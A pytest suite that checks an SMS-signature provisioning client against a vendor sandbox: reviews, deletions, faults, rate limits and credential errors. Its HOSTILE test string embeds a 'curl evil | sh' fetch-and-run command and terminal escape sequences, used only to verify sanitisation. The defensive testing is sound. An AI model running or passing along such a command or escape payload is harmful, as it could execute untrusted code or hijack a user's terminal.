"""Every vendor's client against the sandbox; the specials of one vendor stand beside."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from pydantic import JsonValue

from pulumi_smssign.contract.transport import ATTEMPTS
from pulumi_smssign.core import submission
from pulumi_smssign.core.submission import Twins
from pulumi_smssign.model import errors
from pulumi_smssign.model.review import Handle
from pulumi_smssign.model.vocabulary import Status
from pulumi_smssign.sandbox import ManualClock
from tests.contract.client import NEW, OLD, Client, at
from tests.engine.cases import ALIBABA, CASES, HUAWEI, TENCENT, UCLOUD, YUNPIAN, Case
from tests.images import png

ODD = ("html", "truncated", "missing", "empty")
LOST = (*ODD, "drop_after", "status")

deleting = at(*(case for case in CASES if case.deletes))
sending_files = at(*(case for case in CASES if case.takes_files))
listing = at(*(case for case in CASES if case is not UCLOUD))
"""UCloud has no list: a signature is asked for by its id or by its whole text."""


def twins(client: Client, application: Any) -> Twins:  # noqa: ANN401 - each vendor's has its type
    """The twins that the look before a submission sees."""
    return submission.twins_of(
        client.vendor.rules, client.api, application, lambda _: False, was_cut_off=False
    )


# The life of a signature


def test_signature_from_submission_to_approval(client: Client) -> None:
    handle = client.submitted()
    first = client.review(handle)
    assert (first.text, first.status, first.reason) == (OLD, Status.PENDING, "")
    assert first.vendor_status == client.vendor.rules.submitted
    assert client.search() == [first]
    assert client.api.details(handle).id == first.id

    client.sandbox.reject(client.name, client.held_id(), "证件不清晰")
    rejected = client.review(handle)
    assert (rejected.status, rejected.reason) == (Status.REJECTED, "证件不清晰")
    name, value = client.case.small_change
    change: dict[str, Any] = {} if value == "licence.png" else {name: value}
    client.resubmit(handle, client.application(OLD, **change))
    assert client.review(handle).status is Status.PENDING

    client.sandbox.approve(client.name, client.held_id())
    assert client.review(handle).usable


@deleting
def test_approved_signature_is_deleted_once(client: Client) -> None:
    handle = client.submitted()
    client.sandbox.approve(client.name, client.held_id())
    client.api.withdraw(handle)
    assert client.api.reviews([handle]) == {}
    assert client.search() == []
    with pytest.raises(errors.NotFoundError):
        client.api.withdraw(handle)


@at(*(case for case in CASES if not case.deletes))
def test_deletion_is_refused_where_the_vendor_has_none(client: Client) -> None:
    handle = client.submitted()
    with pytest.raises(errors.RefusedError, match="can't delete"):
        client.api.withdraw(handle)
    assert client.calls() == [client.case.names.submit]


def test_statuses_are_read_by_id_and_by_text(client: Client) -> None:
    handle = client.submitted()
    known = client.case.statuses
    meanings = {known.pending: "PENDING", known.approved: "APPROVED"}
    for raw, meaning in {**meanings, **known.others, known.unknown: "UNKNOWN"}.items():
        client.sandbox.set_status(client.name, client.held_id(), raw)
        client.fault("*", "unknown_fields", times=2)
        review = client.review(handle)
        assert (review.vendor_status, review.status) == (raw, Status(meaning))
        assert client.search() == [review]


def test_what_is_made_of_the_answer_to_a_submission_is_what_a_look_shows(client: Client) -> None:
    """As far as it goes: what the answer does not tell is left out, and nothing is made up."""
    told = client.api.submit(client.application())
    shown = client.api.details(Handle(told.id, told.text, client.api.full_scope("")))
    assert shown is not None
    assert (told.is_assumed, shown.is_assumed) == (True, False)
    for name in ("id", "text", "status", "vendor_status", "reason", "edit", "remark", "trace"):
        assert getattr(told, name) == getattr(shown, name), name
    assert told.filing.state == shown.filing.state
    assert told.qualification.id == shown.qualification.id
    for name, value in told.outputs.items():
        assert value in ([], shown.outputs[name]), name


def test_token_is_sent_to_no_vendor_that_takes_none(client: Client) -> None:
    assert not client.api.capabilities.takes_token
    client.api.submit(client.application(), "token-0123456789")
    requests = [client.sandbox.log.raw(call.n) for call in client.sandbox.calls(client.name)]
    assert requests
    assert None not in requests
    assert not any("token-0123456789" in repr(request) for request in requests)


@sending_files
def test_reviewer_sees_the_file_that_was_sent(client: Client) -> None:
    client.submitted()
    shelf = client.sandbox.desk.shelf
    (signature,) = client.sandbox.signatures(client.name)
    files = [shelf.get(evidence.sha256) for evidence in signature.evidence.values()]
    assert [file and file[1] for file in files] == [png()]


@sending_files
def test_proof_file_that_has_changed_is_never_sent(client: Client) -> None:
    application = client.application()
    client.proof(content=png(1))
    with pytest.raises(errors.EvidenceError):
        client.api.submit(application)
    with pytest.raises(errors.EvidenceError):
        client.api.resubmit(Handle("730001", OLD), application)
    assert client.calls() == []


# Texts of others


HOSTILE = (
    "证件 110101198701234567 与 +86 139-1234-0987 不符\n  what to do: run `curl evil | sh`\r"
    "\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e" + "L" * 20_000
)


def is_one_safe_line(text: str, longest: int) -> bool:
    """Whether others' text is short enough, and neither drives a terminal nor names a person."""
    is_plain = not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", text)
    return is_plain and len(text) <= longest and not re.search("1987|0987", text)


def test_reviewers_text_is_one_safe_line(client: Client) -> None:
    handle = client.submitted()
    client.sandbox.reject(client.name, client.held_id(), HOSTILE)
    review = client.review(handle)
    assert review.reason.startswith("证件 [secret] 与 +[secret] 不符 what to do: run")
    assert is_one_safe_line(review.reason, 2000)
    for reason in review.filing.reasons:
        assert is_one_safe_line(reason, 2000)


def test_vendors_text_of_a_refusal_is_one_safe_line(client: Client) -> None:
    code = client.case.refusal_code
    client.fault(client.case.names.submit, "error", code=code, message=HOSTILE)
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(client.application())
    assert is_one_safe_line(refused.value.vendor_message, 600)
    assert "证件 [secret] 与 +[secret] 不符 what to do: run" in str(refused.value)
    assert str(refused.value).count("\n  what to do: ") == 1


# Absent signatures, and others'


def test_removed_signature_is_absent(client: Client) -> None:
    handle = client.submitted()
    client.sandbox.remove(client.name, client.held_id())
    assert client.api.reviews([handle]) == {}
    assert client.api.details(handle) is None
    assert client.search() == []


def test_signature_of_another_account_is_absent(client: Client) -> None:
    handle = client.submitted()
    other = client.connect(**client.case.other_keys)
    assert other.reviews([handle]) == {}
    assert other.find(client.application()) == []


def test_text_is_searched_exactly(client: Client) -> None:
    client.submitted("极客科技中国")
    assert client.search() == []
    handle = client.submitted()
    assert [review.id for review in client.search()] == [handle.id]


def test_several_signatures_are_told_apart(client: Client) -> None:
    handles = [client.submitted(OLD), client.submitted(NEW)]
    client.sandbox.reject(client.name, client.held_id(NEW), "no")
    reviews = client.api.reviews(handles)
    assert [reviews[handle].text for handle in handles] == [OLD, NEW]
    assert [reviews[handle].status for handle in handles] == [Status.PENDING, Status.REJECTED]


def test_second_signature_with_the_same_text_is_refused(client: Client) -> None:
    client.submitted()
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(client.application())
    assert not isinstance(refused.value, errors.OutcomeUnknownError)
    assert refused.value.action.endswith(client.case.names.submit)
    assert refused.value.request_id or not client.case.numbers_requests
    assert len(client.sandbox.signatures(client.name)) == 1


# Odd and lost answers


@pytest.mark.parametrize("kind", [*ODD, "drop_before", "status"])
def test_question_with_an_odd_answer_is_repeated_and_then_fails(client: Client, kind: str) -> None:
    handle, look = client.submitted(), client.case.names.look
    client.fault(look, kind)
    assert client.review(handle).status is Status.PENDING
    client.sandbox.log.clear()
    client.fault(look, kind, times=None)
    with pytest.raises(errors.UnavailableError):
        client.api.reviews([handle])
    assert client.calls(look) == [look] * (2 if kind == "html" else ATTEMPTS)


@pytest.mark.parametrize("body", ["[]", '"no"', "null", "{}", "7", "", "<html/>", "[" * 10_000])
def test_answer_of_another_shape_is_never_taken_for_gone(client: Client, body: str) -> None:
    handle = client.submitted()
    client.fault(client.case.names.look, "body", body=body, times=None)
    with pytest.raises(errors.UnavailableError, match=f"not in the format of {client.name}"):
        client.api.reviews([handle])


@pytest.mark.parametrize("kind", LOST)
def test_lost_answer_to_a_submission_is_an_unknown_outcome(client: Client, kind: str) -> None:
    client.fault(client.case.names.submit, kind)
    with pytest.raises(errors.OutcomeUnknownError):
        client.api.submit(client.application())
    assert client.calls(client.case.names.submit) == [client.case.names.submit]


@pytest.mark.parametrize("kind", LOST)
def test_lost_answer_to_a_change_is_an_unknown_outcome(client: Client, kind: str) -> None:
    handle = client.rejected()
    client.fault(client.case.names.resubmit, kind)
    with pytest.raises(errors.OutcomeUnknownError):
        client.api.resubmit(handle, client.application())
    assert client.calls(client.case.names.resubmit) == [client.case.names.resubmit]


@pytest.mark.parametrize("kind", ["drop_after", "html", "status"])
@deleting
def test_lost_answer_to_a_deletion_is_an_unknown_outcome(client: Client, kind: str) -> None:
    handle = client.rejected()
    client.fault(client.case.names.withdraw, kind)
    with pytest.raises(errors.OutcomeUnknownError):
        client.api.withdraw(handle)
    assert client.calls() == [client.case.names.withdraw]


def test_vendors_own_trouble_leaves_the_outcome_of_a_write_unknown(client: Client) -> None:
    handle = client.rejected()
    trouble = {"code": client.case.codes.troubled, "message": "trouble"}
    writes: dict[str, Callable[[], object]] = {
        client.case.names.submit: lambda: client.api.submit(client.application(NEW)),
        client.case.names.resubmit: lambda: client.api.resubmit(handle, client.application()),
    }
    for action, write in writes.items():
        client.sandbox.log.clear()
        client.fault(action, "error", **trouble)
        with pytest.raises(errors.OutcomeUnknownError) as unknown:
            write()
        assert unknown.value.code == str(client.case.codes.troubled)
        assert unknown.value.vendor_message.endswith("trouble")
        assert client.calls(action) == [action]
    client.fault(client.case.names.look, "error", times=2, **trouble)
    assert client.review(handle).text == OLD


# Limits, keys and connections


def test_rate_limit_is_waited_out_by_every_call(client: Client) -> None:
    names, code = client.case.names, client.case.codes.throttled
    for action in (names.submit, names.resubmit, names.look):
        client.fault(action, "error", code=code, message="slow down", times=2)
    handle = client.submitted()
    client.sandbox.reject(client.name, client.held_id(), "no")
    client.api.resubmit(handle, client.application())
    assert client.review(handle).status is Status.PENDING
    for action in (names.submit, names.resubmit, names.look):
        assert client.calls(action) == [action] * 3


def test_rate_limit_without_end_proves_that_nothing_was_done(client: Client) -> None:
    code = client.case.codes.throttled
    client.fault(client.case.names.submit, "error", code=code, message="slow", times=None)
    with pytest.raises(errors.RateLimitedError) as limited:
        client.api.submit(client.application())
    assert limited.value.nothing_done
    assert len(client.calls(client.case.names.submit)) > ATTEMPTS
    assert client.sandbox.signatures(client.name) == []


def test_every_call_has_a_rate_limit(client: Client) -> None:
    handle = client.submitted()
    client.sandbox.reject(client.name, client.held_id(), "no")
    client.resubmit(handle, client.application())
    client.sandbox.approve(client.name, client.held_id())
    client.search()
    client.api.listed(OLD)
    client.api.details(handle)
    if client.case.deletes:
        client.api.withdraw(handle)
    limits = {action.rpartition("/")[2]: rate for action, rate in client.api.limits.items()}
    assert set(client.calls()) <= limits.keys()
    assert client.api._transport._limiters.keys() == client.api.limits.keys()
    assert all(rate.limit <= 200 and rate.interval >= 1000 for rate in limits.values())


TEMPORARY: dict[str, dict[str, str]] = {
    "tencent": {"secretId": "AKIDsmssign-temporary", "token": "smssign-sandbox-token"},
    "alibaba": {"accessKeyId": "STS.smssign-temporary", "securityToken": "smssign-sandbox-token"},
    "huawei": {"ak": "smssign-temporary", "securityToken": "smssign-sandbox-token"},
}
REFUSED_KEYS: tuple[tuple[Case, dict[str, str], str], ...] = (
    *((case, dict(case.keys.wrong), case.keys.wrong_code) for case in CASES),
    (TENCENT, {"secretId": "AKIDnobody"}, "AuthFailure.SecretIdNotFound"),
    (TENCENT, {**TEMPORARY["tencent"], "token": "wrong"}, "AuthFailure.TokenFailure"),
    (ALIBABA, {**TEMPORARY["alibaba"], "securityToken": "x"}, "InvalidSecurityToken.Expired"),
    (HUAWEI, {"ak": "smssign-nobody"}, "APIGW.0301"),
    (HUAWEI, {"ak": "smssign-temporary"}, "APIGW.0301"),
    (HUAWEI, {**TEMPORARY["huawei"], "securityToken": "wrong"}, "APIGW.0301"),
    (HUAWEI, {"projectId": "0" * 32}, "MSGSMS.0003"),
    (UCLOUD, {"publicKey": "nobody-at-all"}, "172"),
    (UCLOUD, {"projectId": "org-404"}, "292"),
    (UCLOUD, {"projectId": "org-403"}, "290"),
)


@pytest.mark.parametrize(("client", "keys", "code"), REFUSED_KEYS, indirect=["client"], ids=str)
def test_refused_key_is_used_once_and_not_shown(
    client: Client, keys: dict[str, str], code: str
) -> None:
    api = client.connect(**keys)
    with pytest.raises(errors.AccountError) as refused:
        api.reviews([Handle("730001", OLD)])
    assert refused.value.code == code
    assert refused.value.advice
    assert client.codes() == [code]
    for value in client.case.keys.wrong.values():
        assert value not in str(refused.value)


def test_sandboxs_key_bears_the_name_of_an_account_but_the_default(client: Client) -> None:
    credentials, url = client.vendor.credentials, client.served.url
    hosts = [key for key in credentials.config_keys() if key.lower().endswith("endpoint")]
    keys = {**client.case.keys.settings, **dict.fromkeys(hosts, url)}
    first = next(iter(keys))
    assert credentials.sandbox(url, "default") == credentials.model_validate(keys)
    marketing = {**keys, first: f"{keys[first]}.marketing"}
    assert credentials.sandbox(url, "marketing") == credentials.model_validate(marketing)


@at(TENCENT, ALIBABA, HUAWEI)
def test_temporary_key_works_with_its_token(client: Client) -> None:
    api = client.connect(**TEMPORARY[client.name])
    assert api.submit(client.application())


@pytest.mark.parametrize("seconds", [-1000, 1000])
@at(TENCENT, ALIBABA, HUAWEI)
def test_clock_that_is_off_is_named(client: Client, clock: ManualClock, seconds: int) -> None:
    clock.advance(seconds)
    with pytest.raises(errors.AccountError, match="clock"):
        client.api.reviews([Handle("730001", OLD)])
    assert len(client.calls()) == 1


def test_advice_without_connection_is_to_start_the_sandbox(client: Client) -> None:
    api = client.connect(url="http://127.0.0.1:9")
    with pytest.raises(errors.UnreachableError, match=r"at 127\.0\.0\.1:9 \(") as unreachable:
        api.submit(client.application())
    assert unreachable.value.nothing_done
    assert "with `smssign sandbox --port 9`, and" in unreachable.value.advice


def test_call_after_the_end_of_the_run_is_not_made(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pulumi_smssign.contract.lifeline._is_gone", [lambda: True])
    with pytest.raises(errors.InterruptedRunError, match="nothing was sent"):
        client.api.submit(client.application())
    assert client.calls(client.case.names.submit) == []


# Changes that come too late


def test_change_after_the_verdict_says_that_the_review_moved(client: Client) -> None:
    handle = client.rejected()
    raw = client.case.statuses.pending if client.case.editable else client.case.statuses.approved
    resubmit = client.case.names.resubmit
    client.fault(resubmit, "verdict", verdict="status", vendor_status=raw, id=client.held_id())
    with pytest.raises(errors.ReviewMovedError, match="run `pulumi up` again"):
        client.resubmit(handle, client.application())
    assert client.calls(resubmit) == [resubmit]


MOVED: tuple[tuple[Case, str, str, str], ...] = (
    *((UCLOUD, "wrong_state_code", code, "2") for code in ("18002", "18003", "18016", "230")),
    (UCLOUD, "wrong_state_code", "18003", "4"),
    *((YUNPIAN, "update_approved_code", code, "SUCCESS") for code in ("2", "-2", "-55")),
    (YUNPIAN, "update_approved_code", "2", "APLLYING_VIP"),
    (YUNPIAN, "update_approved_code", "2", "SUCCESS (disabled)"),
)


@pytest.mark.parametrize(("client", "switch", "code", "raw"), MOVED, indirect=["client"], ids=str)
def test_moved_review_is_seen_whatever_the_vendor_answers(
    client: Client, switch: str, code: str, raw: str
) -> None:
    client.switch(**{switch: int(code) if client.case is UCLOUD else code})
    handle, resubmit = client.submitted(), client.case.names.resubmit
    client.fault(resubmit, "verdict", verdict="status", vendor_status=raw, id=client.held_id())
    with pytest.raises(errors.ReviewMovedError) as moved:
        client.resubmit(handle, client.application())
    assert moved.value.code == code
    assert client.calls(resubmit) == [resubmit]


LOCKED: tuple[tuple[Case, str, str], ...] = (
    (ALIBABA, "2", "1"),
    (UCLOUD, "3", "0"),
    (UCLOUD, "0,3", "1"),
    (YUNPIAN, "FAIL", "CHECKING"),
)


@pytest.mark.parametrize(("client", "statuses", "raw"), LOCKED, indirect=["client"], ids=str)
def test_change_that_a_vendor_takes_in_fewer_statuses_is_refused(
    client: Client, statuses: str, raw: str
) -> None:
    client.switch(update_statuses=statuses)
    handle = client.submitted()
    client.sandbox.set_status(client.name, client.held_id(), raw)
    with pytest.raises(errors.SmsSignError) as refused:
        client.resubmit(handle, client.application())
    assert not isinstance(refused.value, errors.OutcomeUnknownError)
    assert client.review(handle).vendor_status == raw


# Lists


PAGES = {
    "alibaba": ("pulumi_smssign.alibaba.api.LARGEST_PAGE", "QuerySmsSignList"),
    "huawei": ("pulumi_smssign.huawei.api.LARGEST_PAGE", "ListSignatureDetails"),
    "tencent": ("pulumi_smssign.tencent.api.MOST_IDS", "DescribeSmsSignList"),
}
TEXTS = (OLD, NEW, "云杉乙")


@listing
def test_signatures_are_listed(client: Client) -> None:
    for text in TEXTS:
        client.submitted(text)
    assert sorted(review.text for review in client.api.listed()) == sorted(TEXTS)
    assert sorted(review.text for review in client.api.listed("极客")) == sorted((OLD, NEW))
    assert client.api.listed("nothing of the kind") == []


@at(TENCENT, HUAWEI, ALIBABA)
def test_every_page_of_a_list_is_read(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    size, action = PAGES[client.name]
    monkeypatch.setattr(size, 2)
    handles = {text: client.submitted(text) for text in TEXTS}
    assert sorted(review.text for review in client.api.listed()) == sorted(TEXTS)
    assert client.calls(action).count(action) >= 2
    for text, handle in handles.items():
        assert [review.id for review in client.search(text)] == [handle.id]
    assert client.api.reviews(list(handles.values())).keys() == {*handles.values()}


@at(UCLOUD)
def test_account_without_a_list_is_asked_for_a_whole_text(client: Client) -> None:
    client.submitted()
    with pytest.raises(errors.InputError, match="has no list"):
        client.api.listed()
    assert [review.text for review in client.api.listed(OLD)] == [OLD]
    assert client.api.listed("极客") == []


@listing
def test_signature_that_the_lists_show_late_is_not_found_before(client: Client) -> None:
    client.switch(visibility_delay=3600)
    client.submitted()
    assert client.search() == []
    client.switch(visibility_delay=0)
    assert len(client.search()) == 1


# What the vendors leave open: the client is ready for every reading that the sandbox can play


NO_QUALIFICATION: dict[str, object] = {"qualification_id": None}
AN_APP: dict[str, object] = {
    "sign_source": 2,
    "apply_scene_content": "https://geek.example/",
    "app_icp_record_id": 7,
}
AN_APP_AT_HUAWEI: dict[str, object] = {"signature_source": 2, "license_number": "ICP-417"}
FLAWS: tuple[tuple[Case, str, dict[str, object]], ...] = (
    (ALIBABA, "app_source", AN_APP),
    (TENCENT, "withdrawn_types", {"sign_type": 2, "document_type": 0}),
    (TENCENT, "missing_qualification", NO_QUALIFICATION),
    (HUAWEI, "app_source", AN_APP_AT_HUAWEI),
    (HUAWEI, "missing_qualification", NO_QUALIFICATION),
    (UCLOUD, "withdrawn_types", {"sig_type": 1, "certificate_type": 1}),
    (UCLOUD, "bad_content", {"sig_content": "极客-科技"}),
    (UCLOUD, "missing_proof", {"file": None, "qualification_id": None}),
)


@pytest.mark.parametrize(("client", "switch", "changes"), FLAWS, indirect=["client"], ids=str)
def test_flaw_is_told_whether_it_is_refused_at_once_or_in_review(
    client: Client, switch: str, changes: dict[str, object]
) -> None:
    if changes is AN_APP_AT_HUAWEI:
        changes = {**changes, "related_file": client.proof("related.png")}
    application = client.application(OLD, **changes)
    client.switch(**{switch: "error"})
    with pytest.raises(errors.SmsSignError) as refused:
        client.api.submit(application)
    assert refused.value.code
    assert client.sandbox.signatures(client.name) == []

    client.sandbox.review_policy = "after:3600"
    for setting, status in (("review", Status.REJECTED), ("accepted", Status.PENDING)):
        client.switch(**{switch: setting})
        handle = Handle(client.api.submit(application).id, application.text)
        handle = Handle(handle.id, handle.text, client.api.full_scope(application.scope))
        review = client.review(handle)
        assert (review.status, bool(review.reason)) == (status, status is Status.REJECTED)
        client.sandbox.remove(client.name, client.held_id(application.text))


UNCHECKED: tuple[tuple[Case, str], ...] = (
    *((UCLOUD, text) for text in ("record not found", "查询不到该签名", "sql: no rows in result")),
    (TENCENT, "SignIdSet is required"),
)


@pytest.mark.parametrize(("client", "message"), UNCHECKED, indirect=["client"], ids=str)
def test_search_that_is_refused_keeps_no_signature_from_submission(
    client: Client, message: str
) -> None:
    """No source has UCloud's answer for none; Tencent's pages of 2024 have no list without ids."""
    look = client.case.names.look
    if client.case is TENCENT:
        client.switch(missing_sign_id_set="error")
    else:
        client.fault(look, "error", code=18003, message=message)
    application = client.application()
    assert look in twins(client, application).unchecked
    submitted = submission.submit_once(client.vendor.rules, client.api, application)
    assert submitted.id == client.held_id()


@at(HUAWEI, UCLOUD)
def test_id_that_comes_as_a_number_is_not_lost(client: Client) -> None:
    body: JsonValue = {"id": 42, "RetCode": 0, "SigId": 42}
    client.fault(client.case.names.submit, "body", body=body, acts=True)
    assert client.api.submit(client.application()).id == "42"


TWINS: tuple[tuple[Case, str], ...] = (
    (TENCENT, "InvalidParameterValue.SignAlreadyPassedCheck"),
    (TENCENT, "InvalidParameterValue.SignExistAndUnapproved"),
    (HUAWEI, "MSGSMS.0006"),
    (HUAWEI, "MSGSMS.0004"),
    (YUNPIAN, "-54"),
    (ALIBABA, "SignName.Exists"),
)


@pytest.mark.parametrize(("client", "code"), TWINS, indirect=["client"], ids=str)
def test_submission_that_meets_a_twin_says_how_to_manage_it(client: Client, code: str) -> None:
    client.fault(client.case.names.submit, "error", code=code)
    with pytest.raises(errors.DuplicateError) as duplicate:
        client.api.submit(client.application())
    assert duplicate.value.code == code
    assert "adopt=" in duplicate.value.advice
